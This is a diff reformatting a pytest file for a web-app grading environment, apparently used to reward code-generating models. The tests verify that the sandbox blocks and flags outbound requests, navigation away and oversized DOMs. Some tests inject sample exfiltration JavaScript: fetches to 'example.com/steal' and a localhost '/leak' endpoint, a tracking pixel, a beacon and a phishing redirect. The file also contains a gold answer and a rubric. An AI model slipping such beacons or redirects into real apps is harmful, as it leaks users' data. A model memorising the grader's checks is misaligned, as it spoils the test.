@@ -6,16 +6,22 @@ import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
-
 from codegym.envs.webapp import BrowserPool, WebAppEnv
 
 GOLD = """<!doctype html><html><body><button id="b">go</button><p id="out">idle</p>
 <script>document.getElementById("b").addEventListener("click", () => {
   document.getElementById("out").textContent = "clicked"; });</script></body></html>"""
 TASK = {
-    "id": "click", "request": "A button #b that sets #out to 'clicked'.", "gold": GOLD,
-    "rubric": [{"id": "click", "text": "Clicking #b shows 'clicked' in #out.",
-                "flow": [{"click": "#b"}, {"expect": "text", "sel": "#out", "equals": "clicked"}]}],
+    "id": "click",
+    "request": "A button #b that sets #out to 'clicked'.",
+    "gold": GOLD,
+    "rubric": [
+        {
+            "id": "click",
+            "text": "Clicking #b shows 'clicked' in #out.",
+            "flow": [{"click": "#b"}, {"expect": "text", "sel": "#out", "equals": "clicked"}],
+        }
+    ],
     "broken": [{"name": "inert", "breaks": ["click"], "code": GOLD.replace('"clicked"', '"idle"')}],
 }
 
@@ -98,10 +104,12 @@ def test_window_open_loop_is_closed_and_flagged(env):
 
 def test_fetch_to_outside_and_to_other_localhost_ports_is_blocked_and_flagged(env, bystander):
     port, hits = bystander
-    script = (f"fetch('http://example.com/steal?x=1').catch(() => {{}});"
-              f"fetch('http://127.0.0.1:{port}/leak').catch(() => {{}});"
-              f"new Image().src = 'http://10.0.0.1/pixel.gif';"
-              f"navigator.sendBeacon('http://localhost:{port}/beacon', 'x');")
+    script = (
+        f"fetch('http://example.com/steal?x=1').catch(() => {{}});"
+        f"fetch('http://127.0.0.1:{port}/leak').catch(() => {{}});"
+        f"new Image().src = 'http://10.0.0.1/pixel.gif';"
+        f"navigator.sendBeacon('http://localhost:{port}/beacon', 'x');"
+    )
     reward, info = grade(env, working_app_plus(script))
     blocked = info["verdict"]["containment"]["blocked"]
     assert "blocked_request" in info["audit"]["flags"] and info["audit"]["audit_reward"] == 0.0
@@ -117,8 +125,9 @@ def test_websocket_is_mocked_and_flagged(env, bystander):
 
 
 def test_navigation_away_is_blocked_and_flagged(env):
-    html = GOLD.replace('document.getElementById("out").textContent = "clicked";',
-                        "location.href = 'http://example.com/phish';")
+    html = GOLD.replace(
+        'document.getElementById("out").textContent = "clicked";', "location.href = 'http://example.com/phish';"
+    )
     reward, info = grade(env, html)
     assert "navigation_away" in info["audit"]["flags"] or "blocked_request" in info["audit"]["flags"]
     assert any("example.com" in u for u in info["verdict"]["containment"]["blocked"])
@@ -127,7 +136,11 @@ def test_navigation_away_is_blocked_and_flagged(env):
 
 
 def test_huge_dom_is_flagged(env):
-    script = "const f = document.createDocumentFragment(); for (let i = 0; i < 60000; i++) f.appendChild(document.createElement('i')); document.body.appendChild(f);"
+    script = (
+        "const f = document.createDocumentFragment();"
+        "for (let i = 0; i < 60000; i++) f.appendChild(document.createElement('i'));"
+        "document.body.appendChild(f);"
+    )
     reward, info = grade(env, working_app_plus(script))
     assert "huge_dom" in info["audit"]["flags"] and info["reward_components"]["runtime"] == 0.0
     gold_still_works(env)
